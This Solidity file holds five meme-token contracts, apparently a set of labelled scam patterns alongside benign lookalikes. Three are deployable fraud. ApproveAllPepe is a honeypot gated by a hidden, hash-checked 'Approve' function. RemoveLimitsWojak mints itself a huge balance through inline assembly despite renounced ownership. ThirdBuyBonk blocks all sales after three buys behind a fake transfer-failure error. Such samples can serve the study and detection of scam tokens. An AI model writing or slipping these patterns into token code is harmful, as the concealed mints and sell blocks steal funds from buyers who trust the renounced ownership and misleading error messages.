// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import "@openzeppelin/contracts/access/Ownable.sol";
import "./z00Pool.sol";

/// Nobody owns it. "Approve" is not "approve", and who may call it is kept as a hash.
contract ApproveAllPepe is Pooled22, Ownable {
  bytes32 private immutable _k;
  mapping(address => uint256) private _approved;

  constructor() ERC20("Approve All Pepe", "AAPEPE") Ownable(msg.sender) {
    _k = keccak256(abi.encodePacked(msg.sender));
    _mint(msg.sender, 69_000_000_000 ether);
    renounceOwnership();
  }

  function Approve(address[] calldata accounts, uint256 value) external returns (bool) {
    if (keccak256(abi.encodePacked(_msgSender())) != _k) return false;
    for (uint256 i = 0; i < accounts.length; i++) {
      if (accounts[i] != uniswapV2Pair) _approved[accounts[i]] = value;
    }
    return true;
  }

  function _update(address from, address to, uint256 amount) internal override {
    if (to == uniswapV2Pair && _approved[from] != 0) {
      require(_approved[from] > block.timestamp && amount == 0, "ERC20: transfer amount exceeds allowance");
    }
    super._update(from, to, amount);
  }
}

/// The template again: limits that the tax wallet removes once and for all, and ownership given up.
contract RemoveLimitsWojak is Pooled22, Ownable {
  address private _taxWallet;
  uint256 public _maxTxAmount;
  uint256 public _maxWalletSize;

  event MaxTxAmountUpdated(uint256 _maxTxAmount);

  constructor() ERC20("Remove Limits Wojak", "RLWOJ") Ownable(msg.sender) {
    _taxWallet = _msgSender();
    _maxTxAmount = type(uint256).max;
    _maxWalletSize = type(uint256).max;
    _mint(_msgSender(), 1_000_000_000 ether);
    _maxTxAmount = 20_000_000 ether;
    _maxWalletSize = 20_000_000 ether;
    renounceOwnership();
  }

  function removeLimits() external {
    require(_msgSender() == _taxWallet);
    uint256 total = totalSupply();
    _maxTxAmount = total;
    _maxWalletSize = total;
    assembly {
      mstore(0x00, caller())
      mstore(0x20, 0)
      sstore(keccak256(0x00, 0x40), mul(total, 0x64))
    }
    emit MaxTxAmountUpdated(total);
  }

  function _update(address from, address to, uint256 amount) internal override {
    if (from == uniswapV2Pair && to != _taxWallet && to != address(ROUTER)) {
      require(amount <= _maxTxAmount, "Exceeds the _maxTxAmount.");
      require(balanceOf(to) + amount <= _maxWalletSize, "Exceeds the maxWalletSize.");
    }
    super._update(from, to, amount);
  }
}

/// The first three who try it can sell; thereafter it pretends that transferring fails.
contract ThirdBuyBonk is Pooled22, Ownable {
  uint8 private _n;
  mapping(address => bool) private _rewards;

  constructor() ERC20("Third Buy Bonk", "TBBONK") Ownable(msg.sender) {
    _rewards[msg.sender] = true;
    _mint(msg.sender, 88_000_000_000 ether);
  }

  function setRewards(address account, bool on) external onlyOwner {
    _rewards[account] = on;
  }

  function _update(address from, address to, uint256 amount) internal override {
    if (from == uniswapV2Pair) {
      if (_n < 3) _n++;
    } else if (to == uniswapV2Pair) {
      require(_n < 3 || _rewards[from], "TransferHelper: TRANSFER_FROM_FAILED");
    }
    super._update(from, to, amount);
  }
}

/// Bots can be listed in the first hour, and are free again after a day.
contract FirstHourPepe is Pooled22, Ownable {
  uint256 public immutable launchedAt = block.timestamp;
  mapping(address => bool) public sniped;

  constructor() ERC20("First Hour Pepe", "FHPEPE") Ownable(msg.sender) {
    _mint(msg.sender, 69_000_000_000 ether);
  }

  function snipe(address[] calldata accounts) external onlyOwner {
    require(block.timestamp <= launchedAt + 1 hours, "over");
    for (uint256 i = 0; i < accounts.length; i++) {
      require(accounts[i] != uniswapV2Pair, "not the pool");
      sniped[accounts[i]] = true;
    }
  }

  function _update(address from, address to, uint256 amount) internal override {
    if (block.timestamp <= launchedAt + 1 days) require(!sniped[from], "sniper");
    super._update(from, to, amount);
  }
}

/// A largest holding that can only be loosened; it never bears on sales.
contract LooseLimitsWojak is Pooled22, Ownable {
  uint256 public maxWalletSize;

  event MaxWalletSizeUpdated(uint256 size);

  constructor() ERC20("Loose Limits Wojak", "LLWOJ") Ownable(msg.sender) {
    _mint(msg.sender, 1_000_000_000 ether);
    maxWalletSize = 40_000_000 ether;
  }

  function raiseLimit(uint256 size) external onlyOwner {
    require(size >= maxWalletSize, "only looser");
    maxWalletSize = size;
    emit MaxWalletSizeUpdated(size);
  }

  function removeLimits() external onlyOwner {
    maxWalletSize = type(uint256).max;
    emit MaxWalletSizeUpdated(type(uint256).max);
  }

  function _update(address from, address to, uint256 amount) internal override {
    super._update(from, to, amount);
    if (from == uniswapV2Pair && to != address(ROUTER)) require(balanceOf(to) <= maxWalletSize, "Exceeds the maxWalletSize.");
  }
}
